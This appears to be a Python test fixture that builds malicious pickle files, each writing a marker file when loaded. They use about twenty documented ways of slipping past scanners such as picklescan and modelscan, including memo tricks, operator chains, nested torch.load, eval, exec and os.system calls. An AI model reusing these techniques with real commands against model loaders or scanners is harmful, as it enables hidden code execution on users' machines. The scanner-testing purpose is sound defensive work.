"""Pickles that would write a marker file if anybody ran them, by every way that scanners have been passed by.

Ways: `mmaitre314/picklescan` advisories and issue 22, `protectai/modelscan` issues 85 and 338, `trailofbits/fickling`
advisories.
"""

from __future__ import annotations

import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any


class Calls:
    """Pickled as a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self._called = function, arguments

    def __reduce__(self) -> Any:
        return self._called


def _text(word: str) -> bytes:
    return b"X" + len(word.encode()).to_bytes(4, "little") + word.encode()


def _system(marker: Path, protocol: int) -> bytes:
    import os

    return pickle.dumps(Calls(os.system, f"touch {marker}"), protocol)


def _chain(marker: Path) -> bytes:
    import importlib

    made = Calls(getattr, Calls(importlib.import_module, "os"), "system")
    return b"\x80\x04" + pickle.dumps(made, 4)[2:-1] + _text(f"touch {marker}") + b"\x85R."


def _attribute_getter(marker: Path) -> bytes:
    import importlib
    import operator

    made = pickle.dumps(Calls(operator.attrgetter("system"), Calls(importlib.import_module, "os")), 4)
    return made[:-1] + _text(f"touch {marker}") + b"\x85R."


def _method_caller(marker: Path) -> bytes:
    import operator

    return pickle.dumps(Calls(operator.methodcaller("touch"), marker), 4)


def _memoised(marker: Path) -> bytes:
    """The names come out of the memo, harmless ones lie nearer in the file."""
    named = _text("os") + b"q\x01" + _text("system") + b"q\x02" + _text("collections") + _text("OrderedDict")
    return b"\x80\x04" + named + b"00" + b"00h\x01h\x02\x93" + _text(f"touch {marker}") + b"\x85R."


def _memo_replaced(marker: Path) -> bytes:
    """A memo's place is written twice, with something else between the string and its PUT."""
    harmless = _text("collections") + b"q\x05" + _text("OrderedDict") + b"q\x06" + b"00"
    evil = _text("os") + b"r\x05\x00\x00\x000" + _text("system") + b"r\x06\x00\x00\x000"
    return b"\x80\x04" + harmless + evil + b"h\x05h\x06\x93" + _text(f"touch {marker}") + b"\x85R."


def _attributes_of_a_name(marker: Path) -> bytes:
    """Words are hung on a harmless function and fetched from there: the names stand nowhere as strings before."""
    setting = b"N(V__kino_a\nVos\nd\x86b" + b"N(V__kino_b\nVsystem\nd\x86b0"
    fetched = b"cnumpy\nprod.__kino_a\np0\n0cnumpy\nprod.__kino_b\np1\n0g0\ng1\n\x93"
    return b"\x80\x04cnumpy\nprod\n" + setting + fetched + _text(f"touch {marker}") + b"\x85R."


def _nested(marker: Path) -> bytes:
    import io

    import torch

    inner = io.BytesIO()
    torch.save(Calls(open, str(marker), "w"), inner)
    load = torch.storage._load_from_bytes  # what torch's own storages are pickled with
    return pickle.dumps(Calls(load, inner.getvalue()), 2)


def _log(marker: Path) -> bytes:
    import logging

    return pickle.dumps(Calls(logging.FileHandler, str(marker)), 2)


def _timed(marker: Path) -> bytes:
    import timeit

    return pickle.dumps(Calls(timeit.timeit, f"open({str(marker)!r}, 'w')", "pass", timeit.default_timer, 1), 2)


def _profiled(marker: Path) -> bytes:
    import cProfile

    return pickle.dumps(Calls(cProfile.run, f"open({str(marker)!r}, 'w')", "/dev/null"), 2)


def _run_by_torch(marker: Path) -> bytes:
    from torch.utils import collect_env

    return pickle.dumps(Calls(collect_env.run, f"touch {marker}"), 2)


def _evaluated(marker: Path) -> bytes:
    return b"c__builtin__\neval\n" + _text(f"open({str(marker)!r}, 'w')") + b"\x85R."


LIVE: dict[str, Callable[[Path], bytes]] = {
    "os.system, protocol 0": lambda marker: _system(marker, 0),
    "os.system, protocol 2": lambda marker: _system(marker, 2),
    "os.system, protocol 4": lambda marker: _system(marker, 4),
    "open for writing": lambda marker: pickle.dumps(Calls(open, str(marker), "w"), 2),
    "exec": lambda marker: pickle.dumps(Calls(exec, f"open({str(marker)!r}, 'w')"), 4),
    "eval of protocol 2's names": _evaluated,
    "chain of calls": _chain,
    "attrgetter": _attribute_getter,
    "methodcaller": _method_caller,
    "names from the memo": _memoised,
    "memo written twice": _memo_replaced,
    "attributes of a name": _attributes_of_a_name,
    "INST of protocol 0": lambda marker: b"(S'touch " + str(marker).encode() + b"'\nios\nsystem\n.",
    "OBJ": lambda marker: b"(cos\nsystem\n" + _text(f"touch {marker}") + b"o.",
    "torch.load within": _nested,
    "a log file": _log,
    "timeit": _timed,
    "cProfile": _profiled,
    "torch's own shell": _run_by_torch,
    "breaks off afterwards": lambda marker: _system(marker, 2)[:-1] + b"\xff\xff\xff.",
    "thrown away and replaced": lambda marker: _system(marker, 2)[:-1] + b"0}.",
}  # fmt: skip
"""Each runs under `pickle.loads`."""
